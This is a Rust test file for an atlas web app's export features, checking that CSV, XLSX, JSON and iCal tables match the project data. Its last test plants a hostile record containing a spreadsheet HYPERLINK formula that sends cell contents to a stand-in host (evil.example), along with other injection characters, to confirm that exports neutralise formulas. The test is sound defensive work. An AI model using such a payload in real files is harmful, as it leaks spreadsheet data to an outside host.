//! What a list is saved as agrees with the data set, row by row, and no cell of it can run as a formula.

// A test that meets what it did not expect must stop.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "csv/mod.rs"]
mod read_back;

// Compiled here by themselves: they need neither the framework nor a browser.
#[path = "../src/components/drawing/table.rs"]
mod entries;
#[path = "../src/components/save_menu/tables.rs"]
mod tables;

// What `tables.rs` calls `crate::…`.
use atlas::{domain, words};

use domain::budget::Covers;
use domain::catalogue::Catalogue;
use domain::dataset::Dataset;
use domain::date::PartialDate;
use domain::facet::Facet;
use domain::party::Role;
use domain::period::{End, Period};
use domain::query::{Page, ProjectQuery};
use domain::read::{FILES, File, read};
use domain::route::Route;
use domain::slices::Slices;
use domain::slug::Slug;
use domain::timeline::{Timeline, TimelineQuery};
use read_back::records;
use serde_json::Value;
use sheet::Sheet;
use sheet::cell::{Cell, iso};
use sheet::csv::runs_as_formula;
use sheet::kind::Kind;
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use tables::Asked;
use time::Date;

const SITE: &str = "https://example.org/portal";

const QUESTIONS: [&str; 9] = [
    "",
    "page=3&view=table",
    "country=kazakhstan&sort=largest",
    "q=court&country=tajikistan&country=uzbekistan",
    "status=completed&not-donor=european-union&sort=title-back&page=2",
    "donor=european-union&as-of=2015-06-01&sort=oldest",
    "currency=EUR&min=1&sort=smallest",
    "beneficiary=in-words&page=all",
    "q=nothing-has-these-words-zzz",
];

/// A data set with all that a table is made of.
struct Whole {
    dataset: Dataset,
    catalogue: Catalogue,
    records: BTreeMap<String, Value>,
    details: Vec<Value>,
}

impl Whole {
    fn bundled() -> Self {
        Self::changed(|_| ())
    }

    /// The bundled data set with its projects changed.
    fn changed(change: impl Fn(&mut Vec<Value>)) -> Self {
        let texts = FILES.map(|name| {
            let bytes = fs::read(format!("public/data/{name}")).unwrap();
            if name != "projects.json" {
                return (name, bytes);
            }
            let mut list: Vec<Value> = serde_json::from_slice(&bytes).unwrap();
            change(&mut list);
            (name, serde_json::to_vec(&list).unwrap())
        });
        let files = texts.each_ref().map(|(name, bytes)| File { name, bytes });
        let dataset = read(&files, domain::tongue::Tongue::PLAIN).dataset.unwrap();
        let list: Vec<Value> =
            serde_json::from_slice(&texts.iter().find(|it| it.0 == "projects.json").unwrap().1).unwrap();
        let records = list.into_iter().map(|record| (record["id"].as_str().unwrap().to_owned(), record)).collect();
        let details = serde_json::from_str(&Slices::new(&dataset, &files, &[]).details()).unwrap();
        let catalogue = Catalogue::of(&dataset);
        Self { dataset, catalogue, records, details }
    }

    fn projects(&mut self, query: &ProjectQuery) -> Sheet {
        let listed: Vec<_> = self.catalogue.ordered(query).into_iter().map(|row| self.catalogue.listed(row)).collect();
        let found = (listed.len(), self.catalogue.len());
        let names = self.catalogue.names();
        let asked = Asked { query, names: &names, dataset: &self.dataset, found, site: SITE };
        asked.projects(&listed, &self.details)
    }

    fn bodies(&mut self, query: &ProjectQuery, role: Role) -> Sheet {
        let shares = self.catalogue.bodies(query, role);
        let found = (self.catalogue.total(query), self.catalogue.len());
        let names = self.catalogue.names();
        let asked = Asked { query, names: &names, dataset: &self.dataset, found, site: SITE };
        asked.bodies(role, &shares)
    }

    /// The ids that the pages of the list show, one page after the other.
    fn shown(&mut self, query: &ProjectQuery) -> Vec<String> {
        let mut ids = Vec::new();
        for number in 1.. {
            let results = self.catalogue.run(&query.at(Page::Number(number)));
            ids.extend(results.rows.iter().map(|row| self.catalogue.listed(*row).id.to_string()));
            if number >= results.pages {
                return ids;
            }
        }
        unreachable!("a list ends")
    }
}

/// A cell as text.
fn text(cell: &Cell) -> String {
    match cell {
        Cell::Empty => String::new(),
        Cell::Day(day) => iso(*day),
        Cell::Text(text) | Cell::Number(text) | Cell::Link(text) => text.clone(),
    }
}

/// A row by the keys of its columns.
fn rows(sheet: &Sheet) -> Vec<BTreeMap<&str, String>> {
    let keys: BTreeSet<&str> = sheet.columns.iter().map(|column| column.key.as_str()).collect();
    assert_eq!(keys.len(), sheet.columns.len(), "a key twice");
    let row = |row: &Vec<Cell>| {
        assert_eq!(row.len(), sheet.columns.len());
        sheet.columns.iter().zip(row).map(|(column, cell)| (column.key.as_str(), text(cell))).collect()
    };
    sheet.rows.iter().map(row).collect()
}

/// The strings of a list of the data, joined as a cell joins them.
fn strings<'v>(list: &'v Value, of: impl Fn(&'v Value) -> Option<&'v str>) -> String {
    list.as_array().into_iter().flatten().filter_map(of).collect::<Vec<_>>().join("; ")
}

fn string(value: &Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

/// The parts of a cell, sorted.
fn parts(cell: &str) -> BTreeSet<String> {
    cell.split("; ").filter(|part| !part.is_empty()).map(str::to_owned).collect()
}

/// A row says which data it is of, of which day, and where that stands: also behind another question's day.
#[track_caller]
fn tells_its_origin(dataset: &Dataset, row: &BTreeMap<&str, String>, question: &str) {
    let meta = &dataset.meta;
    assert_eq!(row["data_version"], meta.data_version);
    assert_eq!(row["data_as_of"], iso(meta.as_of));
    assert_eq!(row["data_source"], format!("{}, {SITE}/", meta.title));
    assert_eq!(row["data_question"], question);
}

#[test]
fn the_table_of_projects_is_the_list_and_agrees_with_the_data() {
    let mut whole = Whole::bundled();
    let mut seen = 0;
    for asked in QUESTIONS {
        let query = ProjectQuery::parse(asked);
        let sheet = whole.projects(&query);
        let question = words::words().question(&query, &whole.catalogue.names());
        let table = rows(&sheet);
        assert_eq!(table.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), whole.shown(&query), "{asked}");
        seen += table.len();
        for row in &table {
            let record = &whole.records[&row["id"]];
            let project = &whole.dataset.projects[&Slug::new(&row["id"]).unwrap()];
            let name = &row["id"];
            for (key, field) in
                [("title", "title"), ("objective", "objective"), ("results", "results"), ("note", "note")]
            {
                assert_eq!(row[key], string(&record[field]), "{name}: {key}");
            }
            assert_eq!(row["target_groups"], string(&record["target_groups"]), "{name}");
            assert_eq!(row["kind"], record["kind"].as_str().unwrap_or("project"), "{name}");
            let ids = |key: &str| parts(&strings(&record[key], Value::as_str));
            assert_eq!(parts(&row["country_ids"]), ids("countries"), "{name}");
            assert_eq!(parts(&row["type_ids"]), ids("types"), "{name}");
            let countries: Vec<_> = project.countries.iter().map(|id| whole.dataset.country(id).unwrap()).collect();
            assert_eq!(parts(&row["country_codes"]), countries.iter().map(|it| it.code.clone()).collect(), "{name}");
            assert_eq!(parts(&row["countries"]), countries.iter().map(|it| it.name.clone()).collect(), "{name}");
            // Labels, ids and codes of one cell stand in one order.
            let first = row["country_ids"].split("; ").next().and_then(Slug::new);
            if let Some(first) = first.and_then(|id| whole.dataset.country(&id)) {
                assert!(row["countries"].starts_with(&first.name) && row["country_codes"].starts_with(&first.code));
            }
            let edtf = string(&record["period"]["edtf"]);
            let (start, end) = edtf.split_once('/').unwrap_or((&edtf, &edtf));
            assert_eq!((row["start"].as_str(), row["end"].as_str()), (start, end), "{name}");
            assert!(row["first_day"].starts_with(start.trim_end_matches('~')), "{name}: {}", row["first_day"]);
            assert_eq!(row["first_day"].len(), if start.is_empty() { 0 } else { 10 }, "{name}");
            let end = if end == ".." { "" } else { end.trim_end_matches('~') };
            assert!(row["last_day"].starts_with(end), "{name}: {}", row["last_day"]);
            assert_eq!(row["last_day"].len(), if end.is_empty() { 0 } else { 10 }, "{name}");
            for (key, field) in [
                ("period_as_written", "period"),
                ("budget_as_written", "budget"),
                ("stated_status_as_written", "status"),
            ] {
                assert_eq!(row[key], string(&record[field]["as_written"]), "{name}: {key}");
            }
            let day = query.as_of.unwrap_or(whole.dataset.meta.as_of);
            let status = project.standing(day).status().map_or("", |it| it.id());
            assert_eq!(row["status_id"], status, "{name}");
            assert_eq!(row["status"].is_empty(), status.is_empty(), "{name}");
            assert_eq!(row["stated_status_id"], string(&record["status"]["value"]), "{name}");
            assert_eq!(row["as_of"], iso(day));
            for (key, field, facet) in [
                ("donor_ids", "donors", Facet::Donor),
                ("implementer_ids", "implementers", Facet::Implementer),
                ("beneficiary_ids", "beneficiaries", Facet::Beneficiary),
            ] {
                let as_written = row[format!("{field}_as_written").as_str()].clone();
                assert_eq!(as_written, strings(&record[field], |it| it["as_written"].as_str()), "{name}: {field}");
                let values = facet.values_of(&whole.dataset, project).into_iter().map(|it| it.to_string());
                let values: BTreeSet<String> = values.filter(|it| it != Facet::NOT_STATED).collect();
                assert_eq!(parts(&row[key]), values, "{name}: {key}");
                assert_eq!(row[field].is_empty(), values.is_empty(), "{name}: {field}");
            }
            let budget = &record["budget"];
            let sum = if budget["amount"].is_null() { String::new() } else { budget["amount"].to_string() };
            assert_eq!(row["budget_amount"], sum, "{name}");
            assert_eq!(row["budget_currency"], string(&budget["currency"]), "{name}");
            if !sum.is_empty() {
                assert_eq!(row["budget_covers"], budget["covers"].as_str().unwrap_or("unknown"), "{name}");
                assert_eq!(row["budget_precision"], budget["precision"].as_str().unwrap_or("exact"), "{name}");
                assert_eq!(row["budget_indicative"] == "yes", budget["indicative"] == true, "{name}");
            }
            assert_eq!(row["sources"], strings(&record["sources"], |it| it["url"].as_str()), "{name}");
            let seen = record["sources"].as_array().unwrap().iter().map(|it| string(&it["seen"])).max();
            assert_eq!(Some(&row["last_checked"]), seen.as_ref(), "{name}");
            assert_eq!(
                row["permalink"],
                format!("{SITE}{}", Route::Project(project.id.clone(), ProjectQuery::default()).path())
            );
            tells_its_origin(&whole.dataset, row, &question);
        }
    }
    assert!(seen > 2 * whole.dataset.projects.len(), "the questions find too little: {seen}");
}

#[test]
fn only_ticked_projects_are_saved_when_only_these_are_shown() {
    let mut whole = Whole::bundled();
    let ids: Vec<String> = whole.dataset.projects.keys().take(3).map(Slug::to_string).collect();
    let picks = format!("pick={}&pick={}&pick={}", ids[2], ids[0], ids[1]);
    let only = ProjectQuery::parse(&format!("{picks}&picked=yes&country=kazakhstan"));
    let table = whole.projects(&only);
    let found: BTreeSet<String> = rows(&table).iter().map(|row| row["id"].clone()).collect();
    assert_eq!(found, ids.iter().cloned().collect());
    assert_eq!(rows(&table).iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), whole.shown(&only));
    let all = whole.projects(&ProjectQuery::parse(&picks));
    assert_eq!(all.rows.len(), whole.dataset.projects.len());
}

#[test]
fn sums_keep_their_digits() {
    let mut whole = Whole::changed(|projects| {
        projects[0]["budget"] = serde_json::from_str(
            r#"{"as_written": "EUR 1,666,413.50", "amount": 1666413.50, "currency": "EUR", "covers": "total"}"#,
        )
        .unwrap();
        projects[1]["budget"] = serde_json::from_str(
            r#"{"as_written": "USD 20,000,000,000.07", "amount": 20000000000.07, "currency": "USD", "covers": "total"}"#,
        )
        .unwrap();
        projects[2]["budget"] = serde_json::from_str(
            r#"{"as_written": "USD 5.00", "amount": 5.00, "currency": "USD", "covers": "group", "indicative": true}"#,
        )
        .unwrap();
    });
    let ids: Vec<String> = {
        let bytes = fs::read("public/data/projects.json").unwrap();
        let list: Vec<Value> = serde_json::from_slice(&bytes).unwrap();
        list.iter().take(3).map(|it| string(&it["id"])).collect()
    };
    let sheet = whole.projects(&ProjectQuery::default());
    let table = rows(&sheet);
    let row = |at: usize| table.iter().find(|row| row["id"] == ids[at]).unwrap();
    assert_eq!(row(0)["budget_amount"], "1666413.50");
    assert_eq!(row(1)["budget_amount"], "20000000000.07");
    assert_eq!((row(2)["budget_amount"].as_str(), row(2)["budget_indicative"].as_str()), ("5", "yes"));
    let column = sheet.columns.iter().position(|column| column.key == "budget_amount").unwrap();
    assert!(sheet.rows.iter().all(|row| matches!(row[column], Cell::Number(_) | Cell::Empty)));
}

#[test]
fn the_tables_of_bodies_agree_with_the_data() {
    let mut whole = Whole::bundled();
    for asked in QUESTIONS {
        let query = ProjectQuery::parse(asked);
        let list: Vec<_> =
            whole.shown(&query).iter().map(|id| whole.dataset.projects[&Slug::new(id).unwrap()].clone()).collect();
        for role in Role::ALL {
            // For each body its projects, and per currency the sum and the number of budgets of their own.
            #[allow(clippy::type_complexity)]
            let mut expected: BTreeMap<String, (usize, BTreeMap<String, (u64, usize)>)> = BTreeMap::new();
            for project in &list {
                for value in Facet::of_role(role).values_of(&whole.dataset, project) {
                    let body = expected.entry(value.to_string()).or_default();
                    body.0 += 1;
                    let own = |it: Covers| !matches!(it, Covers::Group | Covers::PerGrant | Covers::Programme);
                    let budget = project.budget.as_ref().filter(|budget| own(budget.covers));
                    if let Some(money) = budget.and_then(|it| it.money) {
                        let sum = body.1.entry(money.currency.code().to_lowercase()).or_default();
                        sum.0 += money.hundredths;
                        sum.1 += 1;
                    }
                }
            }
            let sheet = whole.bodies(&query, role);
            let question = words::words().question(&query, &whole.catalogue.names());
            let table = rows(&sheet);
            assert_eq!(table.len(), expected.len(), "{asked} {role:?}");
            let mut before = usize::MAX;
            for row in &table {
                let (projects, sums) = &expected[&row["id"]];
                assert_eq!(row["projects"], projects.to_string(), "{asked} {}", row["id"]);
                assert!(*projects <= before, "those with most projects first");
                before = *projects;
                tells_its_origin(&whole.dataset, row, &question);
                assert_eq!(row["as_of"], iso(query.as_of.unwrap_or(whole.dataset.meta.as_of)));
                let special = [Facet::NOT_STATED, Facet::IN_WORDS].contains(&row["id"].as_str());
                let page = Route::Organisation(Slug::new(&row["id"]).unwrap()).href(SITE);
                assert_eq!(row["permalink"], if special { String::new() } else { page });
                if !special {
                    assert_eq!(row["name"], whole.dataset.organisations[&Slug::new(&row["id"]).unwrap()].name);
                }
                for key in sheet.columns.iter().filter_map(|column| column.key.strip_prefix("sum_")) {
                    let (sum, over) = sums.get(key).copied().unwrap_or_default();
                    let written = &row[format!("sum_{key}").as_str()];
                    let (units, cents) = written.split_once('.').unwrap_or((written, "0"));
                    let read = units.parse::<u64>().unwrap_or(0) * 100 + cents.parse::<u64>().unwrap();
                    assert_eq!((read, written.is_empty()), (sum, over == 0), "{asked} {} {key}", row["id"]);
                    assert_eq!(row[format!("projects_in_sum_{key}").as_str()], over.to_string());
                }
                let written = sheet.columns.iter().filter(|column| column.key.starts_with("sum_")).count();
                assert!(written >= sums.len());
            }
            assert!(sheet.about.iter().any(|(_, note)| note.contains("not of its own part")));
        }
    }
}

#[test]
fn a_file_tells_what_it_is() {
    let mut whole = Whole::bundled();
    let query = ProjectQuery::parse("country=kazakhstan&as-of=2016-01-01&sort=title&page=2&view=table");
    let sheet = whole.projects(&query);
    let about: BTreeMap<_, _> = sheet.about.iter().cloned().collect();
    assert_eq!(about.len(), sheet.about.len(), "a name twice");
    assert_eq!(about["Selection"], "Projects in Kazakhstan, as of 1 January 2016");
    assert_eq!(about["As of"], "1 January 2016");
    assert_eq!(about["Date of the data"], words::words().day(whole.dataset.meta.as_of));
    assert_eq!(
        about["Address of the list"],
        format!("{SITE}{}", Route::Projects(query.at(Page::default())).href("")),
        "of its beginning, because the file holds all pages"
    );
    assert_eq!(about["Licence of the data"], whole.dataset.meta.licence);
    assert_eq!(about["Address of the licence"], whole.dataset.meta.licence_url);
    assert_eq!(about["Publisher"], whole.dataset.meta.publisher);
    assert!(about["Number of projects"].starts_with(&format!("{} of ", sheet.rows.len())));
    let names = whole.catalogue.names();
    let asked = Asked { query: &query, names: &names, dataset: &whole.dataset, found: (1, 2), site: SITE };
    let version = Slug::from_name(&whole.dataset.meta.data_version).unwrap();
    let asked_for = "kazakhstan-as-of-2016-01-01";
    assert_eq!(asked.file_name(None), format!("rule-of-law-atlas-projects-{asked_for}-{version}"));
    assert_eq!(
        asked.file_name(Some(Role::Beneficiary)),
        format!("rule-of-law-atlas-institutions-{asked_for}-{version}")
    );
    let asked = Asked { query: &ProjectQuery::default(), ..asked };
    assert_eq!(asked.file_name(None), format!("rule-of-law-atlas-projects-{version}"));
}

/// The entries that a question to the timeline finds, as a table for a kind of file, with the periods of the entries.
fn timeline(whole: &mut Whole, kind: Kind, query: &TimelineQuery) -> (Sheet, Vec<Option<Period>>) {
    whole.catalogue.run(&ProjectQuery::default());
    let timeline = Timeline::new(whole.catalogue.all_listed(), &whole.dataset, &whole.catalogue);
    let found = timeline.ask(query, &mut whole.catalogue).found;
    let names = whole.catalogue.names();
    let periods = found.iter().map(|at| timeline.entries[*at].period()).collect();
    (entries::sheet(kind, &timeline, &found, &names, &whole.dataset, query, SITE), periods)
}

#[test]
fn every_row_of_the_timeline_says_what_is_stated_and_where_it_comes_from() {
    let mut whole = Whole::bundled();
    let (sheet, periods) = timeline(&mut whole, Kind::Csv, &TimelineQuery::parse("country=kazakhstan"));
    let table = rows(&sheet);
    assert!(table.len() > 50 && table.len() == periods.len());
    let day = |date: Option<PartialDate>, of: fn(PartialDate) -> Date| date.map(|it| iso(of(it))).unwrap_or_default();
    let mut halves = 0;
    for (row, period) in table.iter().zip(periods) {
        tells_its_origin(&whole.dataset, row, "Projects and events in Kazakhstan");
        let (start, end) = (period.and_then(|it| it.start), period.and_then(|it| it.end_date()));
        assert_eq!(row["first_day"], day(start, PartialDate::earliest), "{row:?}");
        assert_eq!(row["last_day"], day(end, PartialDate::latest), "{row:?}");
        assert_eq!(row["end"] == "..", period.is_some_and(|it| it.end == End::Open), "{row:?}");
        halves += usize::from(start.is_some() != end.is_some());
    }
    assert!(halves > 5, "{halves}");
    let records = parse(&sheet::write::write(Kind::Csv, &sheet).unwrap());
    assert!(records.iter().all(|record| record.len() == sheet.columns.len()), "a rectangle");
}

#[test]
fn no_entry_of_a_calendar_ends_where_no_source_says_so() {
    let mut whole = Whole::changed(|projects| {
        let periods = ["2014-07-25/", "2014-07-25/..", "/2016-03", "2010~/", "2014-07-25/2014-07-26"];
        for (project, edtf) in projects.iter_mut().zip(periods) {
            project["title"] = format!("Case {edtf}").into();
            project["period"] = serde_json::json!({"edtf": edtf, "as_written": edtf});
        }
    });
    let query = TimelineQuery::default();
    let (sheet, periods) = timeline(&mut whole, Kind::Ical, &query);
    let table = rows(&sheet);
    let dated = periods.iter().flatten().filter(|it| it.start.or(it.end_date()).is_some()).count();
    assert_eq!(table.len(), dated, "what states no date is left out");
    let cases = [
        (
            "2014-07-25/",
            "Start (end not stated): ",
            ("2014-07-25", "2014-07-25"),
            "from 25 July 2014, end not stated\n",
        ),
        ("2014-07-25/..", "Start (open end): ", ("2014-07-25", "2014-07-25"), "since 25 July 2014, open end\n"),
        ("/2016-03", "End (start not stated): ", ("2016-03-01", "2016-03-31"), "until March 2016, start not stated\n"),
        ("2010~/", "Start (end not stated): ", ("2010-01-01", "2010-12-31"), "from about 2010, end not stated\n"),
        ("2014-07-25/2014-07-26", "", ("2014-07-25", "2014-07-26"), "25–26 July 2014"),
    ];
    for (edtf, before, days, when) in cases {
        let title = format!("{before}Case {edtf}");
        let row = table.iter().find(|row| row["title"] == title).unwrap_or_else(|| panic!("no {title}"));
        assert_eq!((row["first_day"].as_str(), row["last_day"].as_str()), days, "{edtf}");
        let said = row["when"].strip_prefix(when).unwrap_or_else(|| panic!("{edtf}: {}", row["when"]));
        assert_eq!(said, if before.is_empty() { "" } else { words::words().timeline.only_half }, "{edtf}");
    }
    // Whatever has but one date says so before its title, and nothing else does.
    let halves = periods.iter().flatten().filter(|it| it.start.is_some() != it.end_date().is_some()).count();
    let say = &words::words().timeline;
    let says = |row: &&BTreeMap<&str, String>| {
        [say.only_start, say.only_start_open, say.only_end].iter().any(|half| row["title"].starts_with(half))
    };
    assert_eq!(table.iter().filter(says).count(), halves);
    let file = String::from_utf8(sheet::write::write(Kind::Ical, &sheet).unwrap()).unwrap().replace("\r\n ", "");
    let meta = &whole.dataset.meta;
    let said = format!(
        "\r\nDESCRIPTION:Atlas: {}\\nSelection: Projects and events\\nAddress of the list: {SITE}/timeline/\\nDate of the data: {}\\n",
        meta.title,
        words::words().day(meta.as_of)
    );
    assert!(file.contains(&said), "{said}\n{}", &file[..900]);
    assert_eq!(file.matches("\r\nBEGIN:VEVENT").count(), table.len());
}

#[test]
fn a_file_of_the_timeline_is_named_by_what_was_asked() {
    let named = |asked: &str| entries::name(&TimelineQuery::parse(asked), "2026.11.22");
    assert_eq!(named(""), "timeline-2026-11-22");
    assert_eq!(
        named("country=kazakhstan&type=access-to-justice&group=donor"),
        "timeline-kazakhstan-access-to-justice-2026-11-22"
    );
    assert_eq!(named("kind=seminar&q=суд и право"), "timeline-seminar-sud-i-pravo-2026-11-22");
    let many = (0..90).map(|at| format!("country=country-{at}")).collect::<Vec<_>>().join("&");
    let long = named(&many);
    assert!(long.len() <= 75 && long.ends_with("-and-more-2026-11-22"), "{long}");
}

/// The records of a CSV file as it is saved: with the mark of its encoding.
fn parse(bytes: &[u8]) -> Vec<Vec<String>> {
    records(std::str::from_utf8(bytes).unwrap().strip_prefix('\u{feff}').unwrap())
}

#[test]
fn a_hostile_record_is_text_in_every_kind_of_file() {
    const BAD: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")\r\n@SUM(1),\u{202e}</script>";
    let mut whole = Whole::changed(|projects| {
        let id = projects[0]["id"].clone();
        projects[0] = serde_json::json!({
            "id": id, "title": BAD, "countries": ["kazakhstan"], "types": [],
            "period": {"edtf": "2014/..", "as_written": BAD},
            "status": {"value": "ongoing", "as_written": format!("+{BAD}")},
            "donors": [{"as_written": BAD}, {"as_written": "@b"}],
            "implementers": [{"as_written": format!("\t{BAD}")}],
            "beneficiaries": [{"as_written": "-1+2"}],
            "budget": {"as_written": BAD, "amount": 5, "currency": "EUR", "covers": "total"},
            "objective": BAD, "target_groups": BAD, "results": format!("-{BAD}"), "note": format!("\u{feff}{BAD}"),
            "sources": [{"url": "https://example.org/=1", "publisher": BAD, "seen": "2020-01-01"}],
        });
    });
    let projects = whole.projects(&ProjectQuery::default());
    let mut sheets = vec![projects];
    sheets.extend(Role::ALL.map(|role| whole.bodies(&ProjectQuery::default(), role)));
    for sheet in &sheets {
        let records = parse(&sheet::write::write(Kind::Csv, sheet).unwrap());
        assert_eq!(records.len(), sheet.rows.len() + 1);
        for (record, row) in records.iter().skip(1).zip(&sheet.rows) {
            assert_eq!(record.len(), sheet.columns.len());
            for (field, cell) in record.iter().zip(row) {
                assert!(!runs_as_formula(field), "{field:?}");
                let text = text(cell);
                assert_eq!(*field, if runs_as_formula(&text) { format!("'{text}") } else { text });
            }
        }
        // The other kinds take it too, and tell their cells apart by themselves.
        assert!(sheet::write::write(Kind::Xlsx, sheet).unwrap().starts_with(b"PK"));
        let json: Value = serde_json::from_slice(&sheet::write::write(Kind::Json, sheet).unwrap()).unwrap();
        assert_eq!(json["rows"].as_array().unwrap().len(), sheet.rows.len());
    }
    let guarded = rows(&sheets[0]).iter().filter(|row| row["title"] == BAD).count();
    assert_eq!(guarded, 1, "the record is there");
}
